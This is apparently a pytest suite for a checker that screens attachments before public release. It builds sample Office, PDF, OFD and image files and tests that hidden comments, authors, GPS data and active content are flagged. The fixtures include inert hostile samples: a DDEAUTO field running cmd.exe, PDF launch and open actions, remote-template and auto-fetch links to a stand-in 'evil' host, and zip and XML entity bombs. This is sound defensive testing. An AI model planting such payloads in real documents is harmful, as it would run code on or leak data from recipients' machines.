"""Attached files: what they hide is told, hostile ones get one plain line, and readers get the same bytes."""

import json
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.annotations import FreeText
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from generator.load.attachment import OLE, attach
from tests.support.building import docs
from tests.support.cases import BASE, Run
from tests.support.inspection import inspect

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
AUTHOR = "<cp:p xmlns:cp='c' xmlns:dc='d'><dc:creator>{}</dc:creator><cp:lastModifiedBy>{}</cp:lastModifiedBy></cp:p>"
PROJECT = "content/projects/2018/zhanlan.yml"
SOURCE = "- 文件: 《2018年档案展览绩效评价结果信息表》\n"


def archive(parts: Mapping[str, str | bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, text in parts.items():
            made.writestr(name, text)
    return out.getvalue()


def docx(body: str = "<w:p><w:r><w:t>正文</w:t></w:r></w:p>", **parts: str) -> bytes:
    document = f"<w:document xmlns:w='{WORD}'><w:body>{body}</w:body></w:document>"
    named = {name.replace("__", "/") + ".xml": text for name, text in parts.items()}
    return archive({"[Content_Types].xml": "<Types/>", "word/document.xml": document, **named})


def run_of(face: str) -> str:
    return f"<w:r><w:rPr>{face}</w:rPr><w:t>底稿</w:t></w:r>"


def xlsx(sheets: str = "<sheet name='表' sheetId='1'/>", rows: str = "", **parts: str) -> bytes:
    named = {name.replace("__", "/") + ".xml": text for name, text in parts.items()}
    return archive(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": f"<workbook xmlns='{SHEET}'><sheets>{sheets}</sheets></workbook>",
            "xl/worksheets/sheet1.xml": f"<worksheet xmlns='{SHEET}'>{rows}</worksheet>",
            **named,
        }
    )


def ofd(author: str = "", **parts: str) -> bytes:
    named = {name.replace("__", "/") + ".xml": text for name, text in parts.items()}
    info = f"<ofd:DocInfo><ofd:Author>{author}</ofd:Author></ofd:DocInfo>"
    return archive({"OFD.xml": f"<ofd:OFD xmlns:ofd='o'>{info}</ofd:OFD>", **named})


def pdf(change: Callable[[PdfWriter], object] = lambda _: None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, **more: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject(f"/{kind}")}
        | {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()}
    )


def opening(kind: str, **more: str) -> bytes:
    """A PDF that does something when it is opened."""
    return pdf(lambda writer: writer.root_object.update({NameObject("/OpenAction"): action(kind, **more)}))


def clicking(kind: str, holder: str = "A", **more: str) -> bytes:
    """A PDF with a button or a link."""
    event = action(kind, **more)
    if holder == "AA":
        event = DictionaryObject({NameObject("/E"): event})

    def add(writer: PdfWriter) -> None:
        link = {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject(f"/{holder}"): event,
        }
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(DictionaryObject(link))])

    return pdf(add)


def relations(*rows: tuple[str, str]) -> str:
    """A part that names what the document refers to elsewhere."""
    listed = "".join(
        f"<Relationship Type='http://o/{kind}' Target='{target}' TargetMode='External'/>" for kind, target in rows
    )
    return f"<Relationships>{listed}<Relationship Type='http://o/styles' Target='styles.xml'/></Relationships>"


def with_relations(document: bytes, *rows: tuple[str, str], part: str = "word/_rels/settings.xml.rels") -> bytes:
    with zipfile.ZipFile(BytesIO(document)) as made:
        return archive({name: made.read(name) for name in made.namelist()} | {part: relations(*rows)})


def add_remark(writer: PdfWriter) -> None:
    remark = FreeText(text="这里要改", rect=(10, 10, 50, 50))
    remark[NameObject("/T")] = TextStringObject("王小明")
    writer.add_annotation(0, remark)


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    picture = chunk(b"IDAT", zlib.compress(b"\0\0"))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunk(*pair) for pair in chunks) + picture + chunk(b"IEND", b"")


def exif(author: bytes = b"", located: bool = False) -> bytes:
    rows = []
    if author:
        rows.append(struct.pack("<HHII", 0x013B, 2, len(author), 100))
    if located:
        rows.append(struct.pack("<HHII", 0x8825, 4, 1, 60))
    first = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(rows)) + b"".join(rows) + b"\0" * 4
    gps = struct.pack("<H", 1) + struct.pack("<HHII", 2, 5, 3, 90) + b"\0" * 4
    return (first.ljust(60, b"\0") + gps).ljust(100, b"\0") + author


def jpg(body: bytes = b"") -> bytes:
    return jpg_of(b"Exif\0\0" + body if body else b"")


def jpg_of(segment: bytes) -> bytes:
    start = b"\xff\xe1" + struct.pack(">H", len(segment) + 2) + segment if segment else b""
    return b"\xff\xd8" + (start or b"\xff\xe0\0\x04JF") + b"\xff\xda\0\x02" + b"\xff\xd9"


def encrypted(writer: PdfWriter) -> None:
    writer.encrypt("mima", algorithm="RC4-128")


CLEAN = {
    "jieguo.docx": docx(docProps__core=AUTHOR.format("Administrator", "微软用户")),
    "jieguo.xlsx": xlsx(rows="<sheetData><row r='1' hidden='0'><c r='A1'><v>1</v></c></row></sheetData>"),
    "jieguo.pdf": pdf(lambda writer: writer.add_metadata({"/Author": "某市财政局", "/Title": "评价结果"})),
    "jieguo.ofd": ofd(Doc_0__Annots__Annotations="<ofd:A xmlns:ofd='o'><ofd:Annot Type='Stamp'/></ofd:A>"),
    "jieguo.png": png((b"tEXt", b"Software\0Paint")),
    "jieguo.jpg": jpg(),
    "jieguo.csv": "项目,分值\n展览,92\n".encode("gbk"),
    "jieguo.txt": "说明".encode(),
}
HIDING = {
    "批注": (
        "a.docx",
        docx(word__comments=f"<w:comments xmlns:w='{WORD}'><w:comment w:author='王小明'/></w:comments>"),
        "1 条批注（王**）",
    ),
    "修订": (
        "a.docx",
        docx("<w:p><w:ins w:author='李四'><w:r/></w:ins><w:del w:author='李四'/></w:p>"),
        "2 处修订痕迹（李*）",
    ),
    "隐藏文字": (
        "a.docx",
        docx("<w:p>" + run_of("<w:vanish/>") + run_of("<w:vanish w:val='0'/>") + "</w:p>"),
        "1 处隐藏文字",
    ),
    "文档作者": (
        "a.docx",
        docx(docProps__core=AUTHOR.format("欧阳建国", "Zhang San")),
        "作者或修改者（Z********、欧阳**）",
    ),
    "嵌入的文件": (
        "a.docx",
        archive({"word/document.xml": "<a/>", "word/embeddings/book.xlsx": b"PK"}),
        "1 个嵌入的文件",
    ),
    "隐藏的工作表": (
        "a.xlsx",
        xlsx("<sheet name='表'/><sheet name='底稿' state='hidden'/><sheet name='更深' state='veryHidden'/>"),
        "2 张隐藏的工作表",
    ),
    "隐藏的行列": (
        "a.xlsx",
        xlsx(
            rows="<cols><col min='2' max='3' hidden='1'/></cols><sheetData>"
            "<row r='1'><c r='A1'><v>1</v></c><c r='C1'><v>2</v></c></row>"
            "<row r='2' hidden='1'><c r='A2'><v>3</v></c><c r='D2'/></row></sheetData>"
        ),
        "隐藏的行或列（2 格有内容）",
    ),
    "表格批注": (
        "a.xlsx",
        xlsx(xl__comments1="<comments><authors><author>张伟</author></authors><comment ref='A1'/></comments>"),
        "1 条批注（张*）",
    ),
    "PDF作者": ("a.pdf", pdf(lambda writer: writer.add_metadata({"/Author": "王小明"})), "作者（王**）"),
    "PDF批注": ("a.pdf", pdf(add_remark), "1 条批注（王**）"),
    "PDF附件": ("a.pdf", pdf(lambda writer: writer.add_attachment("底稿.xlsx", b"PK")), "嵌入的文件"),
    "PDF密码": ("a.pdf", pdf(encrypted), "加密保护（读不出里面的内容，读者也可能打不开）"),
    "照片地点": ("a.jpg", jpg(exif(located=True)), "拍摄地点"),
    "照片作者": ("a.jpg", jpg(exif("王小明".encode())), "作者（王**）"),
    "图片作者": ("a.png", png((b"tEXt", b"Author\0Li Si")), "作者（L****）"),
    "图片地点": ("a.png", png((b"eXIf", exif(located=True))), "拍摄地点"),
    "照片描述里的地点": ("a.jpg", jpg_of(b"http://ns.adobe.com/xap/1.0/\0<x exif:GPSLatitude='31,14N'/>"), "拍摄地点"),
    "图片描述里的地点": (
        "a.png",
        png((b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x exif:GPSLatitude='31,14N'/>")),
        "拍摄地点",
    ),
    "OFD作者": ("a.ofd", ofd("王小明"), "作者（王**）"),
    "OFD批注": (
        "a.ofd",
        ofd(Doc_0__Annots__Page_0__Annotation="<ofd:P xmlns:ofd='o'><ofd:Annot Type='Highlight'/></ofd:P>"),
        "1 处批注",
    ),
    "OFD附件": ("a.ofd", ofd(Attachs__Attachments="<A><Attachment/></A>"), "1 个嵌入的文件"),
}  # fmt: skip

INSTRUCTED = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
ACTING = {
    "宏": ("a.docx", archive({"word/document.xml": "<a/>", "word/vbaProject.bin": b""}), "宏"),
    "远程模板": ("a.docx", with_relations(docx(), ("attachedTemplate", "http://evil/t.dotm")), "1 个远程模板"),
    "别处的图片": ("a.docx", with_relations(docx(), ("image", "http://evil/a.png")), "1 个指向其他文件的链接"),
    "内网的链接": (
        "a.docx",
        with_relations(docx(), ("hyperlink", "file:///\\\\srv/x.docx")),
        "1 个指向本机或内网文件的链接",
    ),
    "取内容的域": ("a.docx", docx(INSTRUCTED), "1 个取别处内容的域"),
    "外部链接": ("a.xlsx", xlsx(xl__externalLinks__externalLink1="<externalLink/>"), "1 个指向其他文件的链接"),
    "只在关系里的": ("a.xlsx", with_relations(xlsx(), ("externalLinkPath", "D:/x.xlsx")), "1 个指向其他文件的链接"),
    "取内容的公式": (
        "a.xlsx",
        xlsx(xl__worksheets__sheet1='<worksheet><c><f>WEBSERVICE("http://a.example/")</f></c></worksheet>'),
        "1 个取别处内容的公式",
    ),
    "数据连接": ("a.xlsx", xlsx(xl__connections="<connections/>"), "取别处数据的连接"),
    "打开就运行的脚本": ("a.pdf", opening("JavaScript", JS="1"), "脚本"),
    "打开就运行程序": ("a.pdf", opening("Launch", F="cmd.exe"), "打开程序的动作"),
    "打开就访问网址": ("a.pdf", opening("URI", URI="http://evil/"), "自己打开网址的动作"),
    "点了运行程序": ("a.pdf", clicking("Launch", F="cmd.exe"), "打开程序的动作"),
    "提交表单": ("a.pdf", clicking("SubmitForm"), "提交表单的动作"),
    "移到上面就访问": ("a.pdf", clicking("URI", "AA", URI="http://evil/"), "自己打开网址的动作"),
    "别的文件": ("a.pdf", clicking("GoToR", F="x.pdf"), "打开别的文件的动作"),
    "内网的地址": ("a.pdf", clicking("URI", URI="file:///srv/x"), "指向本机或内网文件的链接"),
    "OFD打开就访问": (
        "a.ofd",
        ofd(Doc_0__Document="<D><Actions><Action Event='DO'><URI URI='http://evil/'/></Action></Actions></D>"),
        "自己打开网址或文件的动作",
    ),
}  # fmt: skip
QUIET = {
    "网页的链接": (
        "a.docx",
        with_relations(docx(), ("hyperlink", "https://www.gov.cn/"), ("hyperlink", "mailto:a@b.cn")),
    ),
    "点了才去的网页": ("a.pdf", clicking("URI", URI="https://www.gov.cn/")),
    "打开时翻到的一页": ("a.pdf", opening("GoTo", D="1")),
    "点了才去的网页，OFD": (
        "a.ofd",
        ofd(Doc_0__Document="<D><Action Event='CLICK'><URI URI='http://a.cn'/></Action></D>"),
    ),
}


def entity_bomb() -> bytes:
    entities = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10 if n else 'ha'}'>" for n in range(10))
    return docx(docProps__core=f"<!DOCTYPE p [{entities}]><p><creator>&e9;</creator></p>")


WRONG: dict[str, tuple[str, bytes | Callable[[], bytes] | None, str]] = {  # what is big is made when it is looked at
    "没有": ("meiyou.pdf", None, "不在 content/files 里，请放入这个文件或改正文件名"),
    "旧格式": ("a.doc", b"", "是旧格式或带宏的文件，请另存为 .docx 或 PDF 后放入"),
    "金山表格": ("a.et", b"", "是旧格式或带宏的文件，请另存为 .xlsx 或 PDF 后放入"),
    "程序": ("a.exe", b"MZ", "不是可以公开的文件类型，请换成其中一种：pdf、docx、xlsx、ofd、png、jpg、csv、txt"),
    "中文名": ("结果.pdf", pdf(), "要用作网址，文件夹和文件名只能用小写字母、数字和连字符，如 2017/jieguo.pdf"),
    "往上走": ("../units.txt", b"a", "要用作网址，文件夹和文件名只能用小写字母、数字和连字符，如 2017/jieguo.pdf"),
    "太大": ("a.txt", lambda: b"a" * (21 * 1024 * 1024), "有 21 MB，超过 20 MB 的上限，请压缩或拆分后放入"),
    "空的": ("a.pdf", b"", "是空文件，请换成有内容的文件"),
    "改了扩展名": ("a.pdf", docx(), "的内容其实是 Word 文档，与扩展名 .pdf 不符，请改扩展名"),
    "表格充文档": ("a.docx", xlsx(), "的内容其实是 Excel 表格，与扩展名 .docx 不符，请改扩展名"),
    "PDF充文本": ("a.txt", b"%PDF-1.4\n", "的内容其实是 PDF，与扩展名 .txt 不符，请改扩展名"),
    "什么也不是": ("a.pdf", b"hello", "的内容不是 PDF，请换成正确的文件"),
    "旧文档改名": ("a.docx", OLE + b"\0" * 99, "是旧格式或加了密码的文件，请去掉密码，另存为 .docx 或 PDF 后放入"),
    "截断的文档": ("a.docx", docx()[:200] + b"word/document.xml", "打不开，可能已经损坏"),
    "坏的内容": ("a.docx", docx("<w:p>"), "打不开，可能已经损坏"),
    "截断的PDF": ("a.pdf", b"%PDF-1.4\n1 0 obj\n<<", "打不开，可能已经损坏"),
    "截断的图片": ("a.png", png()[:40], "不完整，可能已经损坏"),
    "坏的照片": ("a.jpg", b"\xff\xd8\xff\xe0\0\x04JF\0\0\0\0\0", "不完整，可能已经损坏"),
    "截断的照片": ("a.jpg", jpg()[:6], "不完整，可能已经损坏"),
    "压缩炸弹": (
        "a.docx",
        lambda: archive({"word/document.xml": b"\0" * (101 * 1024 * 1024)}),
        "展开后大得不寻常，不会读取，请重新生成这个文件",
    ),
    "几千个部分": (
        "a.docx",
        lambda: archive({"word/document.xml": "<a/>"} | {f"word/{number}.xml": "" for number in range(5000)}),
        "展开后大得不寻常，不会读取，请重新生成这个文件",
    ),
    "几千页": (
        "a.pdf",
        lambda: pdf(lambda writer: [writer.add_blank_page(9, 9) for _ in range(3000)]),
        "超过 3000 页，不会读取，请拆分后放入",
    ),
    "实体炸弹": ("a.docx", entity_bomb(), "含有不该有的文档类型声明，不会读取，请重新生成这个文件"),
}  # fmt: skip


def content(tmp_path: Path, *names: str) -> Path:
    shutil.copytree(BASE, tmp_path, dirs_exist_ok=True)
    project = tmp_path / PROJECT
    listed = "".join(f"  - {name}\n" for name in names)
    project.write_text(project.read_text("utf-8").replace(SOURCE, f"{SOURCE}  附件:\n{listed}"), "utf-8")
    return tmp_path / "content"


def put(home: Path, name: str, data: bytes) -> None:
    path = home / "files" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def test_clean_files_of_every_kind_are_silent(tmp_path: Path, run: Run) -> None:
    home = content(tmp_path, *CLEAN)
    for name, data in CLEAN.items():
        put(home, name, data)
    assert run("check", "--content", home, "--strict") == (0, "", "")


@pytest.mark.parametrize("case", HIDING)
def test_what_a_file_hides_is_told_and_names_are_covered(case: str, tmp_path: Path, run: Run) -> None:
    name, data, words = HIDING[case]
    phrase = f"里有 {words}" if words[0].isdigit() else f"里有{words}"
    home = content(tmp_path, name)
    put(home, name, data)
    status, out, _ = run("check", "--content", home)
    line = f"{PROJECT}:7:5: 来源.1.附件.1.文件：（警告）“{name}”{phrase}，公开前请在原文件中清除后重新放入  [附件隐患]"
    assert status == 0
    assert line in out.splitlines()
    assert all("王小明" not in row and "Zhang San" not in row for row in out.splitlines())


@pytest.mark.parametrize("case", ACTING)
def test_what_acts_or_calls_elsewhere_is_an_error_unless_it_was_looked_at(case: str, tmp_path: Path, run: Run) -> None:
    name, data, words = ACTING[case]
    phrase = f"里有 {words}" if words[0].isdigit() else f"里有{words}"
    home = content(tmp_path, name)
    put(home, name, data)
    line = f"{PROJECT}:7:5: 来源.1.附件.1.文件：“{name}”{phrase}，会自己动作或连到别处，请在原文件中去掉  [活动内容]"
    assert run("check", "--content", home)[:2] == (1, f"{line}\n")
    waived = f"{{文件: {name}, 说明: {{活动内容: {{理由: 已看过。, 处室: 办公室, 已审查: 是}}}}}}"
    (tmp_path / PROJECT).write_text(
        (tmp_path / PROJECT).read_text("utf-8").replace(f"- {name}", f"- {waived}"), "utf-8"
    )
    assert run("check", "--content", home)[:2] == (0, "")


@pytest.mark.parametrize("case", QUIET)
def test_a_link_that_a_reader_may_follow_to_a_web_page_is_nothing_unusual(case: str, tmp_path: Path, run: Run) -> None:
    name, data = QUIET[case]
    home = content(tmp_path, name)
    put(home, name, data)
    assert run("check", "--content", home, "--strict")[:2] == (0, "")


@pytest.mark.parametrize("case", WRONG)
def test_a_file_that_is_no_good_gets_one_plain_line(case: str, tmp_path: Path, run: Run) -> None:
    name, data, message = WRONG[case]
    home = content(tmp_path, name)
    if data is not None and ".." not in name:
        put(home, name, data() if callable(data) else data)
    status, out, _ = run("check", "--content", home)
    assert (status, out.splitlines()) == (1, [f"{PROJECT}:7:5: 来源.1.附件.1.文件：“{name}”{message}  [附件]"])


def test_a_link_that_leads_out_of_the_folder_is_not_read(tmp_path: Path, run: Run) -> None:
    home = content(tmp_path, "a.txt")
    (tmp_path / "secret.txt").write_text("x")
    (home / "files").mkdir()
    (home / "files/a.txt").symlink_to(tmp_path / "secret.txt")
    status, out, _ = run("check", "--content", home)
    assert (status, out.count("\n")) == (1, 1)
    assert "是一个指向别处的链接，不会读取；请把文件本身放进来" in out


@pytest.mark.parametrize("name", ["jieguo.docx", "jieguo.xlsx", "jieguo.pdf", "jieguo.ofd", "jieguo.png", "jieguo.jpg"])
def test_a_file_cut_anywhere_or_with_a_broken_byte_never_makes_a_traceback(name: str, tmp_path: Path) -> None:
    home, data = content(tmp_path, name), CLEAN[name]
    named = [attached for p in inspect(home).book.projects for source in p.sources for attached in source.attachments]
    for step in range(1, len(data), max(1, len(data) // 40)):
        for broken in (data[:step], data[:step] + bytes([data[step] ^ 0x55]) + data[step + 1 :]):
            put(home, name, broken)
            assert len(attach(home, named)[1]) <= 1


def test_pages_of_a_pdf_that_point_in_a_circle_do_not_hang(tmp_path: Path) -> None:
    def circle(writer: PdfWriter) -> None:
        page = writer.pages[0]
        page[NameObject("/Annots")] = ArrayObject([page.indirect_reference])
        names = DictionaryObject({NameObject("/Kids"): ArrayObject([writer.root_object.indirect_reference])})
        writer.root_object[NameObject("/Names")] = names
        writer.root_object[NameObject("/Metadata")] = DecodedStreamObject()

    home = content(tmp_path, "a.pdf")
    put(home, "a.pdf", pdf(circle))
    assert len(inspect(home).diagnostics) <= 1


def test_a_file_that_no_source_names_is_told_unless_a_project_could_not_be_read(tmp_path: Path, run: Run) -> None:
    home = content(tmp_path, "jieguo.txt")
    for name in ("jieguo.txt", "2018/duoyu.txt", "~$jieguo.docx"):
        put(home, name, b"a")
    text = "没有“来源”写到这个文件，不会公开；请在来源里写上“附件: 2018/duoyu.txt”，或移走它"
    assert run("check", "--content", home)[:2] == (0, f"content/files/2018/duoyu.txt: （警告）{text}  [多余文件]\n")
    (home / "projects/2017/menhu.yml").write_text("年度: 2017\n")
    assert "多余文件" not in run("check", "--content", home)[1]


def test_one_file_may_stand_without_a_list_and_carry_a_remark(tmp_path: Path) -> None:
    home = content(tmp_path)
    project = tmp_path / PROJECT
    put(home, "2018/jieguo.txt", b"a")
    for written in ("附件: 2018/jieguo.txt", "附件: {文件: 2018/jieguo.txt, 说明: 扫描件。}"):
        project.write_text((BASE / PROJECT).read_text("utf-8").replace(SOURCE, f"{SOURCE}  {written}\n"), "utf-8")
        inspected = inspect(home)
        assert [str(diagnostic) for diagnostic in inspected.diagnostics] == []
        assert list(inspected.book.files) == ["2018/jieguo.txt"]


def test_readers_get_the_same_bytes_and_a_link_with_kind_and_size(tmp_path: Path) -> None:
    home = content(tmp_path, "2018/jieguo.pdf", "2018/jieguo.csv")
    put(home, "2018/jieguo.pdf", CLEAN["jieguo.pdf"] + b"\n" * 120_000)
    put(home, "2018/jieguo.csv", CLEAN["jieguo.csv"])
    made = docs(home)
    assert made["files/2018/jieguo.pdf"] == (home / "files/2018/jieguo.pdf").read_bytes()
    page = made["2018/zhanlan.md"].decode()
    assert '<a href="../files/2018/jieguo.pdf">附件：2018/jieguo.pdf（PDF，118\u00a0KB）</a>' in page
    assert "CSV，" in page
    declared = json.loads(made["data/2018/zhanlan.json"])["declared"]
    assert [attachment["文件"] for attachment in declared["来源"][0]["附件"]] == ["2018/jieguo.pdf", "2018/jieguo.csv"]


def test_without_attachments_no_library_for_them_is_loaded(tmp_path: Path) -> None:
    shutil.copytree(BASE, tmp_path, dirs_exist_ok=True)
    code = "import sys; from pathlib import Path; from tests.support.inspection import inspect"
    code += "; inspect(Path(sys.argv[1]))"
    code += "; print('pypdf' in sys.modules)"
    ran = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path / "content")], capture_output=True, text=True, check=True
    )
    assert ran.stdout == "False\n"
